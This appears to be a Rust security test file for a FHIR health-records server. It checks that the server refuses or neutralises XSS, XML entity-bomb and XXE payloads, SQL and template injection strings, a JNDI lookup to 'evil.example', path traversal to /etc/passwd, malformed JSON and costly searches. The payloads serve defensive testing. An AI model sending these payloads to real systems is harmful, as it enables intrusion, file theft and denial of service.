//! Attacks 32, 33, 34, 40, 42: bodies, addresses and queries that are made to be read as something else, or
//! to cost more than they should.

use crate::attacks::world::{World, ids};
use crate::client::{Running, patient};
use server::route::ROUTES;
use std::fmt::Write as _;

#[test]
fn attack_32_nothing_stored_is_served_as_a_page_of_ours() {
    let server = Running::start();
    let script = "<div xmlns=\\\"http://www.w3.org/1999/xhtml\\\"><script>alert(1)</script></div>";
    let body = format!(
        r#"{{"resourceType":"Patient","id":"x","text":{{"status":"generated","div":"{script}"}},"name":[{{"family":"<img src=x onerror=alert(1)>"}}]}}"#
    );
    // A narrative with active content breaks txt-1, or is data and nothing else.
    let stored = server.put("/Patient/x", &body).status;
    assert!(matches!(stored, 201 | 422), "{stored}");
    server.put("/Patient/y", &patient("y", "<script>alert(1)</script>"));
    let page = [("Content-Type", "text/html; charset=utf-8")];
    server.send("PUT", "/Binary/p", &page, b"<script>alert(1)</script>");
    let svg = [("Content-Type", "image/svg+xml")];
    server.send("PUT", "/Binary/s", &svg, b"<svg onload='alert(1)'/>");
    let refused = [
        "/Patient/%3Cscript%3E",
        "/Patient?family=%3Cscript%3Ealert(1)%3C/script%3E",
        "/%3Cscript%3E",
        "/Patient?%3Cscript%3E=1",
    ];
    let stored = ["/Patient/x", "/Patient/y", "/Patient", "/Binary/p", "/Binary/s"];
    for path in refused.into_iter().chain(stored) {
        for accept in ["text/html", "*/*", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"] {
            let answer = server.send("GET", path, &[("Accept", accept)], b"");
            let kind = answer.header("content-type").unwrap_or_default();
            let policy = answer.header("content-security-policy").unwrap_or_default();
            assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{path}");
            assert!(policy.contains("default-src 'none'"), "{path}: {policy}");
            if !kind.contains("json") {
                // Bytes somebody stored: they go to a file, and run nowhere.
                assert!(path.starts_with("/Binary/"), "{path} as {kind}");
                assert_eq!(answer.header("content-disposition"), Some("attachment"), "{path}");
                assert!(policy.contains("sandbox"), "{path}: {policy}");
            }
        }
    }
}

#[test]
fn attack_33_xml_is_read_by_no_door_so_no_entity_of_it_is_ever_resolved() {
    let server = Running::start();
    server.put("/Patient/ada", &patient("ada", "Ada"));
    let bomb = r#"<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]><Patient xmlns="http://hl7.org/fhir"><id value="&b;&x;"/></Patient>"#;
    for row in ROUTES.iter().filter(|row| matches!(row.method.as_str(), "PUT" | "POST")) {
        let path = row.shape.template();
        let path = path
            .replace("[Patient or Encounter]", "Patient")
            .replace("[compartment]", "Patient")
            .replace("[type or *]", "Observation")
            .replace("/[type]/[id]/$[operation]", "/Patient/ada/$change")
            .replace("/[type]/$[operation]", "/Patient/$say")
            .replace("/$[operation]", "/$count-patients")
            .replace("[type]", "Patient")
            .replace("[id]", "ada");
        for media in ["application/fhir+xml", "application/xml", "text/xml"] {
            let headers = [("Content-Type", media)];
            let answer = server.send(row.method.as_str(), &path, &headers, bomb.as_bytes());
            assert_eq!(answer.status, 415, "{} {path} {media}", row.method);
            let text = String::from_utf8_lossy(&answer.body).into_owned();
            assert!(!text.contains("lol") && !text.contains("root:"), "{path}");
        }
        // Nor is it guessed from the first byte.
        let headers = [("Content-Type", "application/fhir+json")];
        let answer = server.send(row.method.as_str(), &path, &headers, bomb.as_bytes());
        assert!(matches!(answer.status, 400 | 415), "{} {path}: {}", row.method, answer.status);
    }
}

#[test]
fn attack_34_no_text_of_a_query_or_an_address_is_read_as_a_language() {
    let world = World::new();
    let whole = ids(&world.server.get("/Patient"));
    for text in [
        "' OR '1'='1",
        "'; drop table res; --",
        "\" OR 1=1 --",
        "%",
        "_nn",
        "Ann' union select * from item --",
        "Patient.name.where(true)",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "ann\0",
    ] {
        let encoded = text.bytes().fold(String::new(), |mut out, byte| {
            let _ = write!(out, "%{byte:02X}");
            out
        });
        for query in [
            format!("family={encoded}"),
            format!("_id={encoded}"),
            format!("identifier={encoded}"),
            format!("general-practitioner={encoded}"),
            format!("_has:Observation:patient:code={encoded}"),
        ] {
            let answer = world.server.get(&format!("/Patient?{query}"));
            match answer.status {
                200 => assert_eq!(ids(&answer), Vec::<String>::new(), "{text} in {query}"),
                status => assert_eq!(status, 400, "{text} in {query}"),
            }
        }
        for query in
            [format!("{encoded}=1"), format!("_sort={encoded}"), format!("_type={encoded}")]
        {
            let status = world.server.get(&format!("/Patient?{query}")).status;
            assert_eq!(status, 400, "{text} in {query}");
        }
        let answer = world.server.get(&format!("/Patient/{encoded}"));
        assert!(matches!(answer.status, 400 | 404), "{text}: {}", answer.status);
    }
    for path in [
        "/../../etc/passwd",
        "/Patient/../../../etc/passwd",
        "/Patient/..%2F..%2Fmetrics",
        "/Patient/ann/_history/../../Binary/of-bob",
        "//fhir/%2e%2e/metrics",
        "//auth/../fhir/Patient/bob",
    ] {
        let status = world.get(path).status;
        assert!(matches!(status, 400 | 404), "{path}: {status}");
    }
    assert_eq!(ids(&world.server.get("/Patient")), whole, "nothing was dropped");
}

#[test]
fn attack_40_json_is_read_in_one_way_or_not_at_all() {
    let server = Running::start();
    let put = |body: String| {
        let answer = server.put("/Observation/o", &body);
        (answer.status, if answer.status >= 400 { answer.code() } else { String::new() })
    };
    let with = |more: &str| {
        format!(
            r#"{{"resourceType":"Observation","id":"o","status":"final","code":{{"text":"x"}}{more}}}"#
        )
    };
    let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
    assert_eq!(put(with(&format!(r#","extension":{deep}"#))), (400, "fhir.json.too-deep".into()));
    for twice in [r#","status":"amended""#, r#","\u0073tatus":"amended""#] {
        assert_eq!(put(with(twice)).0, 400, "{twice}");
    }
    for no_json in
        [",", r#","value":01"#, r#","value":NaN"#, r#","value":+1"#, r#","note":"\ud800""#]
    {
        assert_eq!(put(with(no_json)).0, 400, "{no_json}");
    }
    // Digits stay as they were written, above what a double holds and below.
    for digits in ["1.0", "1.10", "0.1000000000000000055", "12345678901234567.123", "1e-3"] {
        let body = with(&format!(r#","valueQuantity":{{"value":{digits}}}"#));
        assert!(put(body).0 < 300, "{digits}");
        let back = server.get("/Observation/o");
        assert_eq!(back.at("valueQuantity.value"), digits);
    }
    // The same letters, composed and decomposed, are two identifiers: whoever has one is not the other.
    for (id, value) in [("a", "caf\u{e9}"), ("b", "cafe\u{301}"), ("c", "CAF\u{c9}")] {
        let body = patient(id, "X").replace("X-1", value);
        assert_eq!(server.put(&format!("/Patient/{id}"), &body).status, 201);
    }
    assert_eq!(ids(&server.get("/Patient?identifier=urn:mrn|caf%C3%A9")), ["a"]);
    assert_eq!(ids(&server.get("/Patient?identifier=urn:mrn|cafe%CC%81")), ["b"]);
}

#[test]
fn attack_42_a_search_that_would_cost_too_much_is_refused_and_not_carried_out() {
    let server = Running::with(|_| {}, |settings| settings.limits.search_steps = 200);
    let entries: Vec<String> = (0..120)
        .map(|n| {
            let body = patient("", &format!("F{n}"));
            format!(r#"{{"resource":{body},"request":{{"method":"POST","url":"Patient"}}}}"#)
        })
        .collect();
    let bundle = format!(
        r#"{{"resourceType":"Bundle","type":"transaction","entry":[{}]}}"#,
        entries.join(",")
    );
    assert_eq!(server.post("/", &bundle).status, 200);
    let chain = "_has:Observation:patient:".repeat(20);
    let many = "family=a&".repeat(200);
    let values = vec!["x"; 20_000].join(",");
    for (path, codes) in [
        (
            "/Patient?name:contains=zz&given:contains=nn&family:contains=q&_sort=family".to_owned(),
            &["search.query.too-costly"][..],
        ),
        (format!("/Patient?{chain}code=x"), &["search.query.too-many", "search.parameter.chain"]),
        (format!("/Patient?{many}"), &["search.query.too-many"]),
        (
            format!("/Patient?family={values}"),
            &["search.query.too-many", "server.parameter.invalid"],
        ),
    ] {
        let answer = server.get(&path);
        let start = &path[..path.len().min(60)];
        assert!(answer.status >= 400, "{start}: {}", answer.status);
        assert!(codes.contains(&answer.code().as_str()), "{start}: {}", answer.code());
    }
    let page = server.get("/Patient?_count=1000000000");
    assert!(page.status == 400 || page.entries() <= 1000, "a page has its bound");
}
